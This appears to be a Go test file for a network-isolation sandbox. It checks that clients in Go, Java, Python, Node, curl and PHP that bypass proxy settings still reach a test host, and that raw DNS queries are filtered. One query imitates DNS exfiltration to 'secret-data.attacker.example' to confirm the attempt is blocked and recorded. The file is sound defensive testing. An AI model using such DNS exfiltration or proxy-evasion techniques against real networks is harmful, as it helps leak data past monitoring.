package main

import (
	"os"
	"os/exec"
	"strings"
	"testing"
)

// TestIsolatedClients runs clients that read no proxy variable, or cannot send
// credentials. Each prints the status of its answer.
func TestIsolatedClients(t *testing.T) {
	needsNamespaces(t)
	h, _ := serve(t)
	write := func(name, text string) string {
		h.write(t, name, text)
		return h.Path(name)
	}

	goProgram := write("client.go", `package main

import (
	"fmt"
	"net/http"
)

func main() {
	client := http.Client{Transport: &http.Transport{}} // without a proxy
	resp, err := client.Get("https://tickets.acme.example/tickets/7")
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(resp.StatusCode)
}
`)
	static := h.Path("client")
	build := exec.Command("go", "build", "-o", static, goProgram)
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	java := write("Client.java", `import java.net.*;

public class Client {
	public static void main(String[] a) throws Exception {
		var c = (HttpURLConnection) new URL("https://tickets.acme.example/tickets/7").openConnection(Proxy.NO_PROXY);
		System.out.println(c.getResponseCode());
	}
}
`)

	for _, c := range []struct {
		name    string
		program []string
	}{
		{"Go, static", []string{static}},
		{"Java HttpsURLConnection", []string{"java", java}},
		{"Python http.client", []string{"python3", "-c", `import http.client
c = http.client.HTTPSConnection("tickets.acme.example")
c.request("GET", "/tickets/7")
print(c.getresponse().status)`}},
		{"Python http.client over IPv6", []string{"python3", "-c", `import http.client, socket
real = socket.getaddrinfo
socket.getaddrinfo = lambda h, p, f=0, *a: real(h, p, socket.AF_INET6, *a)
c = http.client.HTTPSConnection("tickets.acme.example")
c.request("GET", "/tickets/7")
print(c.getresponse().status)`}},
		{"Node https", []string{"node", "-e", `delete process.env.NODE_USE_ENV_PROXY
require("https").get("https://tickets.acme.example/tickets/7", {agent: new (require("https").Agent)({proxyEnv: {}})}, r => console.log(r.statusCode))`}},
		{"curl to another address", []string{"sh", "-c", withoutProxyVariables + `curl -sS -o /dev/null -w '%{http_code}' --resolve tickets.acme.example:443:192.0.2.7 https://tickets.acme.example/tickets/7`}},
		{"curl through the proxy of the variables", []string{"curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "https://tickets.acme.example/tickets/7"}},
		{"PHP streams", []string{"php", "-r", `file_get_contents("https://tickets.acme.example/tickets/7", false, stream_context_create(["ssl" => ["cafile" => getenv("SSL_CERT_FILE")]]));
echo explode(" ", $http_response_header[0])[1];`}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.program[0] != static {
				lookPath(t, c.program[0])
			}
			r := runIsolated(t, h, nil, c.program...)
			if strings.TrimSpace(r.stdout) != "200" {
				t.Errorf("got %q, errors %q; want 200", r.stdout, r.stderr)
			}
		})
	}
}

// TestIsolatedNames asks for names in the ways of several libraries.
func TestIsolatedNames(t *testing.T) {
	needsNamespaces(t)
	lookPath(t, "python3")
	h, _ := serve(t)

	r := runIsolated(t, h, nil, "python3", "-c", `import socket, struct
def ask(name, kind, to=("8.8.8.8", 53)):
	q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
	s = socket.socket(socket.AF_INET6 if ":" in to[0] else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); s.connect(to); s.send(q)
	a = s.recv(999)
	return "rcode %d answers %d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0])
print("A", ask("tickets.acme.example", 1))
print("AAAA", ask("tickets.acme.example", 28, ("2001:4860:4860::8888", 53)))
print("mixed case", ask("Tickets.ACME.example", 1))
print("HTTPS", ask("tickets.acme.example", 65))
print("SVCB", ask("tickets.acme.example", 64))
print("ANY", ask("tickets.acme.example", 255))
print("other", ask("secret-data.attacker.example", 16))
print("localhost", socket.gethostbyname("localhost"))
try:
	socket.getaddrinfo("other.example", 443)
except socket.gaierror as e:
	print(e.args[0] == socket.EAI_NONAME)
`)
	want := "A rcode 0 answers 1\nAAAA rcode 0 answers 1\nmixed case rcode 0 answers 1\nHTTPS rcode 0 answers 0\nSVCB rcode 0 answers 0\nANY rcode 0 answers 0\n" +
		"other rcode 3 answers 0\nlocalhost 127.0.0.1\nTrue\n"
	if r.stdout != want {
		t.Errorf("got %q, errors %q; want %q", r.stdout, r.stderr, want)
	}
	if h.attempts(t)["DNS secret-data.attacker.example"] != 1 {
		t.Errorf("the question for another name is not on record: %v", h.attempts(t))
	}
}
